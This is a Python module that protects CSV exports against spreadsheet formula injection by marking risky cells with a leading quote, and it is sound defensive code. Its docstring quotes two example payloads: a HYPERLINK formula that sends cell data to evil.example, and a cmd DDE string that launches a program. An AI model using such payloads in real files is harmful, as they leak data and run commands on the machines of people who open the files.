"""CSV cells that a spreadsheet never runs as a formula (issue 54; OWASP's "CSV injection" rule).

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (``=HYPERLINK("https://evil.example/?"&A2,"Open")``, ``+cmd|' /C calc'!A0``): every CSV
the project writes passes its frame through :func:`safe_cells` (or writes it with :func:`csv_text`), which puts a
``'`` before such a cell. A cell that is a finite number in decimal notation (``-3.5``, ``+1e3``) stays as it is, and
so does every numeric column. :func:`plain_cell` undoes the mark (the policy-table reader uses it), so a table
written and read back is unchanged: a cell that already begins with ``'`` before such a character gets one ``'``
more, and reading removes exactly one.
"""
from __future__ import annotations

import math
import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula."""
MARK = "'"
"""What :func:`safe_cell` puts before such a cell (shown as text by every spreadsheet)."""

_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def _formula_like(text: str) -> bool:
    """Whether ``text`` (with any leading ``'`` removed) starts like a formula and is not a finite number."""
    rest = text.lstrip(MARK)
    if not rest or rest[0] not in TRIGGERS:
        return False
    return not (_NUMBER.fullmatch(rest) and math.isfinite(float(rest)))


def safe_cell(value):
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula; anything else as given."""
    if isinstance(value, str) and _formula_like(value):
        return MARK + value
    return value


def plain_cell(value):
    """The cell :func:`safe_cell` was given: one leading ``'`` removed where ``safe_cell`` put it; else as given."""
    if isinstance(value, str) and value.startswith(MARK) and _formula_like(value):
        return value[1:]
    return value


def safe_cells(frame):
    """A copy of ``frame`` whose text cells and column names pass :func:`safe_cell` (numeric columns untouched);
    ``frame`` itself when nothing needs a mark."""
    import pandas as pd

    columns = [safe_cell(c) for c in frame.columns]
    changed = {}
    for i in range(frame.shape[1]):
        column = frame.iloc[:, i]
        if pd.api.types.is_numeric_dtype(column.dtype) or pd.api.types.is_datetime64_any_dtype(column.dtype) \
                or isinstance(column.dtype, pd.PeriodDtype) or pd.api.types.is_timedelta64_dtype(column.dtype):
            continue
        values = column.astype(object)
        marked = values.map(safe_cell)
        if not marked.equals(values):
            changed[i] = marked
    if not changed and columns == list(frame.columns):
        return frame
    out = frame.copy()
    for i, marked in changed.items():
        out.isetitem(i, marked)
    out.columns = columns
    return out


def plain_cells(frame):
    """``frame`` with :func:`plain_cell` applied to every text cell (reading back what :func:`safe_cells` wrote)."""
    import pandas as pd

    out = frame.copy()
    out.columns = [plain_cell(c) for c in frame.columns]
    for i in range(out.shape[1]):
        column = out.iloc[:, i]
        if pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype):
            out.isetitem(i, column.map(plain_cell))
    return out


def safe_note(note: str) -> str:
    """``# …`` lines written above a table with every piece a spreadsheet splits off (at ``,`` or ``;``, also inside
    ``"…"``) that would be a formula marked by :func:`safe_cell` — a note quotes column names and rules."""
    def piece(text: str) -> str:
        quotes = len(text) - len(text.lstrip('"'))
        return text[:quotes] + str(safe_cell(text[quotes:]))

    return "\n".join(";".join(",".join(piece(p) for p in part.split(",")) for part in line.split(";"))
                     for line in note.split("\n"))


def csv_text(frame, note: str | None = None, **options) -> str:
    """``frame`` as CSV text with every text cell neutralised (:func:`safe_cells`): ``note`` (``# …`` lines,
    :func:`safe_note`) first, no index, ``\\n`` line ends; ``options`` go to :meth:`pandas.DataFrame.to_csv` (e.g.
    ``float_format``)."""
    import csv

    safe = safe_cells(frame)
    options = {"index": False, "lineterminator": "\n", **options}
    if _has_return(safe):  # Python's csv writer leaves a lone \r unquoted: a reader would start a new row there
        options.setdefault("quoting", csv.QUOTE_NONNUMERIC)
    return (safe_note(note) + "\n" if note else "") + safe.to_csv(**options)


def _has_return(frame) -> bool:
    """Whether a column name or a text cell of ``frame`` holds a carriage return."""
    if any(isinstance(c, str) and "\r" in c for c in frame.columns):
        return True
    return any(frame.iloc[:, i].map(lambda v: isinstance(v, str) and "\r" in v).any()
               for i in range(frame.shape[1]) if frame.iloc[:, i].dtype == object)
